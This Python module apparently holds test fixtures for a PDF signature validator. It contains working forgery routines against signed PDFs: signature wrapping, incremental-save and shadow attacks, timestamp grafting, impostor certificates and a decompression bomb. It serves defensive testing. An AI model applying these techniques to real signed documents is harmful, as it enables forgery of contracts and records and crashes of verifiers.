"""Attacks on signed PDFs, each built from a document that was signed truly. Sources: Mladenov et al. 2019 (incremental
saving, signature wrapping, universal forgery) and Mainka et al. 2021 (shadow attacks), as /Contents and /ByteRange
of ISO 32000-1, 12.8.1, allow them.
"""

import hashlib
import io
import re
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from asn1crypto import cms, ocsp
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509 import ocsp as ocsp_builder
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
from pyhanko_certvalidator.registry import SimpleCertificateStore

from backend.signing.first_revision import hole_of
from backend.signing.signers.certificates import fingerprint_of
from backend.signing.signers.local_key import LocalKey
from sandbox.authority import Authority

FORGED_AMOUNT = b"BT /F1 24 Tf 60 400 Td ($1) Tj ET"

Edit = Callable[[IncrementalPdfFileWriter], None]


# -- altered as bytes -----------------------------------------------------------------------------
def flip_a_byte(pdf: bytes) -> bytes:
    altered = bytearray(pdf)
    altered[altered.index(b"/Title") + 9] ^= 1
    return bytes(altered)


def add_bytes(pdf: bytes) -> bytes:
    return pdf + b"% one more line\n"


def add_objects_without_a_table(pdf: bytes) -> bytes:
    """Incremental saving without xref and trailer: lenient readers rebuild the table and take the last object."""
    number = re.search(rb"/Contents \[?\s*(\d+) 0 R", pdf)
    assert number is not None
    length = len(FORGED_AMOUNT)
    return pdf + b"\n%b 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (number[1], length, FORGED_AMOUNT)


def without_byte_range(pdf: bytes) -> bytes:
    return pdf.replace(b"/ByteRange", b"/BiteRange", 1)


def with_empty_byte_range(pdf: bytes) -> bytes:
    found = re.search(rb"/ByteRange \[[0-9 ]*\]", pdf)
    assert found is not None
    return pdf.replace(found[0], b"/ByteRange [0 0 0 0]".ljust(len(found[0])), 1)


def with_contents(pdf: bytes, instead: bytes) -> bytes:
    hole = hole_of(pdf)
    return pdf[: hole.start] + instead.ljust(hole.end - hole.start) + pdf[hole.end :]


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: what was signed is all there, its second part further down, and another page between.

    The last startxref is signed and stays: it now points into the gap, where our table waits.
    """
    hole = hole_of(pdf)
    message = pdf[hole.start : hole.end].rstrip(b"0>") + b">"
    table_at = int(pdf[pdf.rindex(b"startxref") :].split()[1])
    rows = re.search(rb"xref\s+0 (\d+)\s+((?:\d{10} \d{5} [nf]\s*)+)(trailer.*?>>\s)startxref", pdf, re.DOTALL)
    number = re.search(rb"/Contents \[?\s*(\d+) 0 R", pdf)
    assert rows is not None
    assert number is not None
    page = b"%b 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (
        number[1],
        len(FORGED_AMOUNT),
        FORGED_AMOUNT,
    )
    table_length = len(rows[0]) + 400
    moved_to = table_at + table_length
    shift = moved_to - hole.end
    head = message + b"\n/ByteRange [0 %d %d %d] >>\nendobj\n" % (hole.start, moved_to, len(pdf) - hole.end)
    page_at = hole.start + len(head)
    offsets = [int(row) for row in re.findall(rb"(\d{10}) \d{5} [nf]", rows[2])]
    moved = [offset + shift if offset >= hole.end else offset for offset in offsets]
    moved[int(number[1])] = page_at
    lines = b"".join(b"%010d %05d %b \n" % (at, 0 if n else 65535, b"n" if n else b"f") for n, at in enumerate(moved))
    table = b"xref\n0 %b\n%b%bstartxref\n%d\n%%%%EOF\n" % (rows[1], lines, rows[3], table_at)
    gap = (head + page).ljust(table_at - hole.start) + table
    return pdf[: hole.start] + gap.ljust(moved_to - hole.start) + pdf[hole.end :]


# -- later revisions ------------------------------------------------------------------------------
def revised(pdf: bytes, edit: Edit) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    edit(writer)
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]  # pyHanko has no types here
    return out.getvalue()


def other_content(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    page[generic.pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED_AMOUNT))
    writer.update_container(page)


def text_over_it(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    note = generic.DictionaryObject(  # type: ignore[no-untyped-call]  # nor here
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
            generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, (50, 50, 500, 500))),
            generic.pdf_name("/Contents"): generic.pdf_string("$1"),
            generic.pdf_name("/DA"): generic.pdf_string("/Helv 20 Tf"),
        }
    )
    page[generic.pdf_name("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), writer.add_object(note)])
    writer.update_container(page)


def other_font(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack "replace": the text stays, its letters look otherwise."""
    for reference in _first_page(writer)["/Resources"]["/Font"].values():
        font = reference.get_object()
        font[generic.pdf_name("/BaseFont")] = generic.pdf_name("/Courier")
        writer.update_container(font)


def _first_page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def stamped_as_a_document(pdf: bytes, authority: Authority) -> bytes:
    """Put a document time stamp over whatever is there."""
    ca = _asn1(authority._certificate("ca"))
    key = asn1_keys.PrivateKeyInfo.load(_pkcs8(authority._key("tsa")))
    stamper = DummyTimeStamper(_asn1(authority._certificate("tsa")), key, certs_to_embed=_store(ca))
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper).timestamp_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf)), "sha256", output=out)
    return out.getvalue()


class _Careless(signers.PdfSigner):
    """Signs also what a certification forbids to change."""

    def _enforce_certification_constraints(self, reader: object) -> None:
        """Nothing is forbidden to an attacker."""


def approved(pdf: bytes, key: LocalKey, field: str = "Otra") -> bytes:
    """Sign, without certifying, as any reader of PDF does."""
    out = io.BytesIO()
    _Careless(signers.PdfSignatureMetadata(field_name=field), _simple(key)).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf)), output=out
    )
    return out.getvalue()


def _simple(key: LocalKey) -> signers.SimpleSigner:
    return signers.SimpleSigner(
        signing_cert=_asn1(key.certificate),
        signing_key=asn1_keys.PrivateKeyInfo.load(_pkcs8(key._key)),
        cert_registry=_store(*map(_asn1, key.chain)),
    )


# -- messages -------------------------------------------------------------------------------------
def with_message(pdf: bytes, change: Callable[[Any], None]) -> bytes:
    """Change the signed message where the signature does not cover it."""
    hole = hole_of(pdf)
    message = cms.ContentInfo.load(hole.content(pdf), strict=False)
    change(message["content"])
    return hole.filled(pdf, message.dump(force=True))


def stamp_of_2020(pdf: bytes) -> bytes:
    """Write another instant into the time stamp, whose own signature does not fit any more."""
    hole = hole_of(pdf)
    message = hole.content(pdf)
    instants = re.findall(rb"\x18\x0f(20\d{12}Z)", message)
    assert instants
    return hole.filled(pdf, message.replace(instants[0], b"20200101000000Z", 1).rstrip(b"\0"))


def with_stamp_of(pdf: bytes, other: bytes) -> bytes:
    """Graft the time stamp of another document."""
    hole = hole_of(other)
    token = cms.ContentInfo.load(hole.content(other), strict=False)["content"]["signer_infos"][0]["unsigned_attrs"]

    def graft(content: Any) -> None:
        content["signer_infos"][0]["unsigned_attrs"] = token

    return with_message(pdf, graft)


def with_answer_that_it_is_revoked(pdf: bytes, key: LocalKey, authority: Authority) -> bytes:
    """Put the authority's own answer into the message: this certificate was revoked."""
    issuer = authority._certificate("ca")
    request = ocsp_builder.OCSPRequestBuilder().add_certificate(key.certificate, issuer, hashes.SHA256()).build()
    answer = authority.answer_ocsp(request.public_bytes(Encoding.DER))
    response = ocsp.OCSPResponse.load(answer)

    def embed(content: Any) -> None:
        info = cms.RevocationInfoChoice(
            name="other",
            value=cms.OtherRevocationInfoFormat({"other_rev_info_format": "ocsp_response", "other_rev_info": response}),
        )
        content["crls"] = cms.RevocationInfoChoices([info])

    return with_message(pdf, embed)


# -- signers --------------------------------------------------------------------------------------
def impostor(like: LocalKey) -> LocalKey:
    """A key with a certificate that it gave itself, under the same name."""
    key = rsa.generate_private_key(65537, 2048)
    name, now = like.certificate.subject, datetime.now(UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    certificate = (
        builder.not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=300))
        .add_extension(_usage(digital_signature=True), critical=False)
        .sign(key, hashes.SHA256())
    )
    return LocalKey(certificate, (), fingerprint_of(certificate), key)


def web_server(authority: Authority) -> LocalKey:
    """The key of a web server, certified by the authority that certifies officials."""
    key, ca = rsa.generate_private_key(65537, 2048), authority._certificate("ca")
    name, now = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "www.example.com")]), datetime.now(UTC)
    builder = x509.CertificateBuilder(ca.subject, name, key.public_key(), x509.random_serial_number())
    certificate = (
        builder.not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=300))
        .add_extension(_usage(key_encipherment=True), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .sign(authority._key("ca"), hashes.SHA256())
    )
    return LocalKey(certificate, (ca,), fingerprint_of(certificate), key)


def _usage(*, digital_signature: bool = False, key_encipherment: bool = False) -> x509.KeyUsage:
    return x509.KeyUsage(
        digital_signature, digital_signature, key_encipherment, False, False, False, False, False, False
    )


def _asn1(certificate: x509.Certificate) -> asn1_x509.Certificate:
    return asn1_x509.Certificate.load(certificate.public_bytes(Encoding.DER))


def _pkcs8(key: rsa.RSAPrivateKey) -> bytes:
    return key.private_bytes(Encoding.DER, PrivateFormat.PKCS8, NoEncryption())


def _store(*certificates: asn1_x509.Certificate) -> SimpleCertificateStore:
    store = SimpleCertificateStore()  # type: ignore[no-untyped-call]  # nor here
    for certificate in certificates:
        store.register(certificate)
    return store


def sha256(pdf: bytes) -> str:
    return hashlib.sha256(pdf).hexdigest()


def unpacks_to(size: int) -> bytes:
    """A file whose table of objects is packed so well that it unpacks to `size` bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024**2)) for _ in range(size // 1024**2)) + packer.flush()
    twice = zlib.compress(packed, 9)
    entries = b"/Type /XRef /Size 9 /W [1 2 1] /Root 1 0 R /Filter [/FlateDecode /FlateDecode] /Length %d" % len(twice)
    head = b"%PDF-1.7\n"
    body = b"2 0 obj\n<< %b >>\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (entries, twice, len(head))
    return head + body
